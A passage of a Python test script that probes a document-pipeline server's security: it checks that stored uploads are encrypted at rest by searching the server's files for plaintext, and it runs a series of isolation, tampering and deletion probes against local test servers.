        "then with DOCPIPE_AUDIT_KEY_FILE naming a copy kept apart",
        expected="without a key: exit 0 with a warning (documented limit); with the key kept apart: exit != 0",
        run=key_deleted,
    )


def at_rest_needles() -> dict[str, list[bytes]]:
    """Returns what of the uploads and questions must not be readable on disk, by kind: phrases of the
    sample's and the encrypted PDF's text, the questions, and slices of both PDFs' bytes."""
    needles = {
        "sample text": [b"Northwind Analytics", b"Lantern Row", b"Harbor & Vale", b"Receiving Party shall"],
        "encrypted PDF text": [ENCRYPTED_PHRASE],
        "questions": [QUESTION.encode(), b"Who are the parties?"],
        "PDF bytes": [],
    }
    for data in (SAMPLE.read_bytes(), ENCRYPTED.read_bytes()):
        needles["PDF bytes"] += [data[int(len(data) * f) : int(len(data) * f) + 48] for f in (0.25, 0.5, 0.75)]
    return needles


def count_mentions(home: Path, needles: dict[str, list[bytes]]) -> tuple[int, dict[str, list[str]]]:
    """Returns how many files under `home` there are, and for each kind of needle the files holding one."""
    total = sum(1 for p in home.rglob("*") if p.is_file() and not p.is_symlink())
    return total, {
        kind: [str(Path(h).relative_to(home)) for h in files_mentioning([home], found)]
        for kind, found in needles.items()
    }


def probe_23_at_rest(keyless: Served, tmp: Path) -> None:
    """23.at-rest: a server whose store key seals what it stores: nothing of the uploads readable on disk."""
    threat = "issue 23: plain text at rest (store key)"
    if not ENCRYPTED.is_file():
        record("23.at-rest", threat, "-", expected="-", run=lambda rec: setattr(rec, "outcome", "skipped"))
        return
    home, key = tmp / "sealed-home", tmp / "store.key"
    home.mkdir()
    made = run_cli(home, "keys", "store-key", "--out", str(key))
    if made.returncode != 0:
        raise RuntimeError(f"docpipe keys store-key failed: {made.stderr}")
    key_mode = oct(stat.S_IMODE(key.stat().st_mode))
    with serving(
        home, *ECHO, "--no-ui", token=None, env={"DOCPIPE_STORE_KEY_FILE": str(key)}, log_name="sealed.log"
    ) as sealed:
        anyone = Api(sealed, None)

        def use(rec: Probe) -> None:
            sample = anyone.upload(SAMPLE.read_bytes(), "msa.pdf")
            asked = anyone.ask(sample.json()["id"], {"question": QUESTION})
            locked = anyone.upload(ENCRYPTED.read_bytes(), "locked.pdf", password=ENCRYPTED_PASSWORD)
            asked_locked = httpx.post(
                f"{sealed.url}/v1/documents/{locked.json().get('id')}/ask",
                json={"question": "Who are the parties?", "password": ENCRYPTED_PASSWORD},
                timeout=60,
            )
            sources = [home / "docs" / r.json()["id"] / "source.pdf" for r in (sample, locked) if r.status_code == 200]
            magic = [p.read_bytes()[:1] == b"\x00" for p in sources if p.exists()]
            codes = [sample.status_code, asked.status_code, locked.status_code, asked_locked.status_code]
            rec.outcome = f"uploads {codes[0]}, {codes[2]}; asks {codes[1]}, {codes[3]}"
            rec.as_expected = codes == [200] * 4 and len(magic) == 2 and all(magic)
            rec.observation = (
                f"store key made by `docpipe keys store-key --out FILE` (mode {key_mode}), given as "
                f"DOCPIPE_STORE_KEY_FILE; both source.pdf files start with the sealed magic (NUL): {all(magic)}"
            )

        record(
            "23.at-rest",
            threat,
            "token-less server with DOCPIPE_STORE_KEY_FILE: upload the sample and the encrypted PDF (its "
            "password), ask each a question",
            expected="200s; the stored sources sealed",
            run=use,
        )

        def grep(rec: Probe) -> None:
            needles = at_rest_needles()
            sealed_total, sealed_hits = count_mentions(home, needles)
            plain_total, plain_hits = count_mentions(keyless.home, needles)
            sealed_files = sorted({f for files in sealed_hits.values() for f in files})
            plain_files = sorted({f for files in plain_hits.values() for f in files})
            rec.outcome = (
                f"sealed home: {len(sealed_files)} of {sealed_total} files; "
                f"keyless home (main server): {len(plain_files)} of {plain_total} files"
            )
            rec.as_expected = not sealed_files and bool(plain_files)
            rec.observation = (
                "files holding a phrase of the texts, a question or a slice of the PDFs' bytes, by kind, sealed / "
                "keyless: "
                + "; ".join(f"{k} {len(sealed_hits[k])} / {len(plain_hits[k])}" for k in needles)
                + " (the keyless count is the documented plain store of probe 4, and shows the search finds them)"
            )
            rec.details = {"sealed_home": sealed_hits, "keyless_home": plain_hits}

        record(
            "23.at-rest",
            threat,
            "walk every file under the sealed server's home for phrases of both PDFs' text, the questions and "
            "slices of the PDFs' bytes; the same on the main (keyless) server's home",
            expected="0 files in the sealed home (the keyless home holds them, for comparison)",
            run=grep,
        )


# -- run ---------------------------------------------------------------------------------------------------
ECHO = ("--engine", "echo")  # every probe server answers with the echo engine


@dataclass
class ProbeRun:
    """What `run_all` found: every record in run order, the records of each probe group (named for the function
    that ran it), and whether the main server was still up at the end."""

    records: list[Probe]
    groups: dict[str, list[Probe]]
    server_alive_at_end: bool


def run_all(tmp: Path) -> ProbeRun:
    """Runs every probe group against one main server (workbench on, four users' keys) and its two companions, all
    under `tmp`, in the order the probes need (issue 23's before probe 8; deleting matter deal-x last); every
    server is stopped on return. A group whose set-up fails is recorded as a failed record, not raised."""
    home, uploads, metrics_token = tmp / "home", tmp / "gradio", secrets.token_hex(16)
    home.mkdir()
    keys: dict[str, str] = {}
    for user, grant in (
        ("alice", "deal-x:write"),
        ("bob", "deal-y:write"),
        ("carol", "deal-x:read"),
        ("dana", "deal-x:admin"),
    ):
        keys[user], keys[f"{user}_id"] = new_key(home, user, grant)
    state: dict[str, Any] = {}
    groups: dict[str, list[Probe]] = {}
    first = len(RECORDS)

    def guarded(step: Callable[..., None], *args: Any) -> None:
        """Runs one probe group; a set-up failure is recorded instead of ending the run."""
        before = len(RECORDS)
        try:
            step(*args)
        except Exception as exc:  # noqa: BLE001
            failure = exc
            record(
                "-",
                step.__name__,
                "set-up of the probe group",
                expected="no error",
                run=lambda rec, failure=failure: (_ for _ in ()).throw(failure),
            )
        groups[step.__name__] = RECORDS[before:]

    with serving(
        home, *ECHO, "--log-level", "info", token=None, env={"GRADIO_TEMP_DIR": str(uploads)}, log_name="serve.log"
    ) as server:
        # Gradio's cache folder as the server made it (or, if it made none yet, private as an admin would).
        state["gradio_dir_created_by"] = "server" if uploads.exists() else "this script (0700)"
        uploads.mkdir(mode=0o700, exist_ok=True)
        guarded(probe_workbench, server, keys, uploads, tmp)
        guarded(probe_isolation, server, keys, state)
        guarded(probe_encrypted, server, keys, state)
        guarded(probe_at_rest, server, state, uploads)
        guarded(probe_delete_document, server, keys, uploads)
        guarded(probe_exhaustion, server, keys)
        guarded(probe_exposed_bind, tmp)
        (tmp / "tokenless-home").mkdir()
        with serving(
            tmp / "tokenless-home",
            *ECHO,
            "--no-ui",
            token=None,
            env={"DOCPIPE_METRICS_TOKEN": metrics_token},
            log_name="tokenless.log",
        ) as tokenless:
            guarded(probe_defaults, server, keys, tokenless, metrics_token)
        # Issue 23's findings, before probe 8 so that its search of the server log covers them too.
        guarded(probe_23_names, server, keys)
        guarded(probe_23_workbench_name, server, keys)
        guarded(probe_23_exports, server, keys)
        guarded(probe_23_question_hash, server, keys, state)
        guarded(probe_23_denied, server, keys)
        guarded(probe_faults, server, keys, state)
        guarded(probe_23_log_tamper, server, tmp)
        guarded(probe_23_at_rest, server, tmp)  # compares with this home while deal-x still holds its PDFs
        guarded(probe_delete_matter, server, keys, state)
        alive = server.process.poll() is None
    return ProbeRun(RECORDS[first:], groups, alive)
